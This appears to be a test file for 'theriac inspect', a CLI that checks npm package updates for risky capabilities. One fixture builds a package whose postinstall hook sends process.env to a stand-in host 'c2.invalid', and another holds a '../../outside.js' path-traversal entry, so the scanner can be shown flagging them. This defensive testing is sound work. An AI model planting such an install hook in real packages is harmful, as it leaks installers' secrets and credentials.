/** `theriac inspect` as people run it. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeTar } from '@theriac/testing/make-tar';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { builtOnce } from './run-cli.ts';

const folder = mkdtempSync(join(tmpdir(), 'theriac-inspect-'));
const manifest = (version: string, more: object = {}): string =>
  JSON.stringify({ name: 'tool', version, ...more });
const pack = (name: string, files: Readonly<Record<string, string>>): void =>
  writeFileSync(
    join(folder, name),
    makeTar(Object.entries(files).map(([path, content]) => ({ name: `package/${path}`, content }))),
  );

beforeAll(() => {
  pack('old.tgz', { 'package.json': manifest('1.0.0'), 'index.js': 'module.exports = 1;' });
  pack('same.tgz', { 'package.json': manifest('1.0.1'), 'index.js': 'module.exports = 2;' });
  pack('bad.tgz', {
    'package.json': manifest('1.0.2', { scripts: { postinstall: 'node x.js' } }),
    'x.js': "require('https').request({ host: 'c2.invalid' }).end(JSON.stringify(process.env));",
  });
  pack('escape.tgz', { 'package.json': manifest('1.0.3'), '../../outside.js': 'x' });
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const run = builtOnce({});
const inspect = (...names: readonly string[]) =>
  run(['inspect', ...names.map((name) => (name.startsWith('-') ? name : join(folder, name)))]);

test('an update that brings nothing', async () => {
  const { stdout, code: exitCode } = await inspect('old.tgz', 'same.tgz');
  expect([exitCode, stdout]).toEqual([
    0,
    'tool 1.0.0 → tool 1.0.1\n\nThis update adds no capability that Theriac looks for.\n',
  ]);
});

test('an update that steals', async () => {
  const { stdout, code: exitCode } = await inspect('old.tgz', 'bad.tgz');
  expect(exitCode).toBe(1);
  expect(stdout).toContain('high   runs a program when it is installed: postinstall: node x.js');
  expect(stdout).toContain('x.js:1');
});

test('as JSON', async () => {
  const { stdout, code: exitCode } = await inspect('bad.tgz', '--json');
  expect(exitCode).toBe(1);
  expect(JSON.parse(stdout)).toMatchObject({
    package: { name: 'tool', version: '1.0.2' },
    concerns: [{ id: 'install-beacon', severity: 'high' }, { id: 'environment-leak' }],
  });
});

test('what cannot be read is not called clean', async () => {
  const { stdout, code: exitCode } = await inspect('escape.tgz');
  expect(exitCode).toBe(3);
  expect(stdout).toContain('an entry has a name that leads outside');
});

test('what is not there', async () => {
  const { stderr, code: exitCode } = await inspect('none.tgz');
  expect(exitCode).toBe(2);
  expect(stderr).toContain('THERIAC_TARGET_MISSING');
});

test('a folder without files is not called harmless', async () => {
  mkdirSync(join(folder, 'empty'));
  const { stdout, code } = await inspect('empty');
  expect([code, stdout]).toEqual([3, expect.stringContaining('empty: there is no file in it')]);
});
